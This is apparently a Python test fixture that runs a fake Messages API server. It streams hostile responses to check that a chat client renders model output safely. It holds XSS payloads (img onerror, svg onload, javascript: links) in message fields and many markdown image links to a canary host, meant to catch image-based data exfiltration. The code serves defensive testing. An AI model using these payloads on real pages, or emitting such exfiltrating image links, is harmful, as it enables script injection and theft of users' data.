"""A server of the Messages API whose every word is meant to come alive on a page."""

import asyncio
import json
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from itertools import product
from typing import Any

from tests.hostile.payloads import CANARY, ELEMENTS, corpus, documents
from tests.scripted_server import (
    Connection,
    answer,
    event_stream,
    scripted_server,
)

MODEL = "claude-sonnet-5-5"
# What fits where a provider names something.
NAME = f"<img src=//{CANARY}/n onerror=__x(1)>\"'><svg onload=__x(2)>"
LINK = f"javascript:__x(1)//{CANARY}"
PIECE_SIZES = (2, 40, 9, 400, 1, 150, 90)  # characters
HUGE_CHARS = 10_000_000
USAGE = {"input_tokens": 3, "output_tokens": 5}

# Shapes in which an answer may carry off what it was told: none may be asked for.
IMAGES = tuple(
    shape.format(f"{scheme}{CANARY}/{number}")
    for number, (shape, scheme) in enumerate(
        product(
            (
                *("![seen]({}.png)", "![seen](<{}?q=secret>)", "[![seen]({})](/)"),
                *("![seen]({} 'title')", "![seen][1]\n\n[1]: {}", "- > ![seen]({})"),
                *("| a |\n|---|\n| ![seen]({}) |", "# ![seen]({})", "**![seen]({})**"),
                *("a[^1]\n\n[^1]: ![seen]({})", "~~![seen]({})~~", "![*seen*]({})"),
            ),
            ("https://", "http://", "//", "HTTPS://", "https://127.0.0.1@"),
        )
    )
)

type Frames = Iterator[tuple[str, Any]]


def _start(**more: Any) -> tuple[str, Any]:
    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": MODEL}
    ends: dict[str, Any] = {
        "content": [],
        "stop_reason": None,
        "stop_sequence": None,
        "usage": USAGE,
    }
    return "message_start", {"message": {**message, **ends, **more}}


def _end(reason: str = "end_turn", **more: Any) -> Frames:
    delta = {"stop_reason": reason, "stop_sequence": None, **more}
    yield "message_delta", {"delta": delta, "usage": {"output_tokens": 9}}
    yield "message_stop", {}


def _block(index: int, block: dict[str, Any], *deltas: dict[str, Any]) -> Frames:
    yield "content_block_start", {"index": index, "content_block": block}
    for delta in deltas:
        yield "content_block_delta", {"index": index, "delta": delta}
    yield "content_block_stop", {"index": index}


def _text(index: int, *texts: str) -> Frames:
    deltas = [{"type": "text_delta", "text": text} for text in texts]
    yield from _block(index, {"type": "text", "text": ""}, *deltas)


def _pieces(text: str) -> Iterator[str]:
    at, number = 0, 0
    while at < len(text):
        size = PIECE_SIZES[number % len(PIECE_SIZES)]
        yield text[at : at + size]
        at, number = at + size, number + 1


def _texts() -> Frames:
    yield _start()
    for index, document in enumerate(documents(corpus()[::60])):
        yield from _text(index, *_pieces(document.replace("\0", "")))
    yield from _end()


def _images() -> Frames:
    yield _start()
    yield from _text(0, *_pieces("\n\n".join(IMAGES)))
    yield from _end()


def _thoughts() -> Frames:
    yield _start()
    thought = {"type": "thinking_delta", "thinking": "\n\n".join(ELEMENTS[:40])}
    signature = {"type": "signature_delta", "signature": NAME}
    block = {"type": "thinking", "thinking": "", "signature": ""}
    yield from _block(0, block, thought, signature)
    yield from _block(1, {"type": "redacted_thinking", "data": NAME})
    yield from _text(2, "Thought of it.")
    yield from _end()


def _names() -> Frames:
    yield _start(id=NAME, model=NAME, role=NAME, container={"id": NAME})
    yield from _text(0, "Named.")
    yield from _end(NAME, stop_sequence=NAME, container={"id": NAME})


def _tools() -> Frames:
    yield _start()
    partial = {"type": "input_json_delta", "partial_json": json.dumps({NAME: NAME})}
    for index, kind in enumerate(("tool_use", "server_tool_use", NAME)):
        block = {"type": kind, "id": NAME, "name": NAME, "input": {}}
        yield from _block(index, block, partial)
    found = {"type": "web_search_result", "title": NAME, "url": LINK, "page_age": NAME}
    result = {"type": "web_search_tool_result", "tool_use_id": NAME}
    yield from _block(3, {**result, "content": [found]})
    citation = {"type": "web_search_result_location", "url": LINK, "title": NAME}
    cited = {"type": "citations_delta", "citation": {**citation, "cited_text": NAME}}
    words = {"type": "text_delta", "text": "Sought."}
    yield from _block(4, {"type": "text", "text": "", "citations": []}, cited, words)
    yield from _end()


def _odd_events() -> Frames:
    yield _start()
    yield NAME, {"type": NAME, NAME: NAME}
    yield "ping", {NAME: [NAME] * 9}
    yield from _text(0, "Odd.")
    odd = {"type": NAME, "text": NAME, "html": NAME}
    yield from _block(1, {"type": "text", "text": ""}, odd)
    yield "error_" + NAME, {"error": NAME}
    yield from _end()


def _error() -> Frames:
    yield _start()
    yield from _text(0, "So far.")
    fault = {"type": NAME, "message": "\n".join(ELEMENTS[:30])}
    yield "error", {"error": fault, "request_id": NAME}


def _huge() -> Frames:
    yield _start()
    yield from _text(0, "<b>" + "x" * HUGE_CHARS)
    yield from _end()


def _long() -> Frames:
    yield _start()
    yield from _text(0, *(f"{NAME}\n\n" * 250 for _ in range(15)))
    yield from _end()


# What a question asks for, and how its answer ends.
STREAMS: dict[str, tuple[Callable[[], Frames], Sequence[str]]] = {
    "texts": (_texts, ["complete"]),
    "images": (_images, ["complete"]),
    "thoughts": (_thoughts, ["complete"]),
    "names": (_names, ["complete"]),
    "tools": (_tools, ["complete"]),
    "odd events": (_odd_events, ["complete"]),
    "error": (_error, ["failed"]),
    "huge": (_huge, ["failed", "complete"]),
    "long": (_long, ["complete"]),
}
REFUSALS = {
    "refusal": {"type": "error", "error": {"type": NAME, "message": NAME}},
    "page": f"<html><body>{''.join(ELEMENTS)}</body></html>",
}


def _bytes(frames: Frames) -> Iterator[bytes]:
    for event, data in frames:
        line = event.replace("\n", " ")
        yield f"event: {line}\ndata: {json.dumps({'type': event, **data})}\n\n".encode()


async def _serve(connection: Connection) -> None:
    """Answer by the newest words of the request, or what was asked for by its path."""
    request = connection.server.requests[-1]
    if request.method == "GET":
        await answer(200, _models())(connection)
        return
    if request.target.endswith("count_tokens"):
        await answer(200, {"input_tokens": NAME})(connection)
        return
    asked = _newest(request.json)
    if not request.json.get("stream"):
        await answer(200, _title())(connection)
    elif asked in STREAMS:
        await event_stream(_bytes(STREAMS[asked][0]()))(connection)
    else:
        await answer(400, _body(REFUSALS[asked]), f"request-id: {NAME}")(connection)


def _body(body: Any) -> bytes:
    return body.encode() if isinstance(body, str) else json.dumps(body).encode()


def _newest(request: Any) -> str:
    content = request["messages"][-1]["content"]
    if isinstance(content, str):
        return content
    return str(content[-1]["text"])


def _models() -> dict[str, Any]:
    names = (MODEL, "claude-haiku-5-5", NAME)
    data = [
        {"type": "model", "id": name, "display_name": f"{NAME} {number}"}
        for number, name in enumerate(names)
    ]
    stamped = [{**each, "created_at": "2026-01-01T00:00:00Z"} for each in data]
    return {"data": stamped, "has_more": False, "first_id": NAME, "last_id": NAME}


def _title() -> dict[str, Any]:
    _, start = _start(content=[{"type": "text", "text": NAME}], stop_reason="end_turn")
    message: dict[str, Any] = start["message"]
    return message


@contextmanager
def hostile_upstream() -> Iterator[str]:
    """Where it serves, on a loop and a thread of its own."""
    ready, over, loop = threading.Event(), asyncio.Event(), asyncio.new_event_loop()
    url = ""

    async def serve() -> None:
        nonlocal url
        async with scripted_server(_serve) as server:
            url = server.url
            ready.set()
            await over.wait()

    thread = threading.Thread(target=lambda: loop.run_until_complete(serve()))
    thread.start()
    assert ready.wait(30)
    try:
        yield url
    finally:
        loop.call_soon_threadsafe(over.set)
        thread.join()
        loop.close()
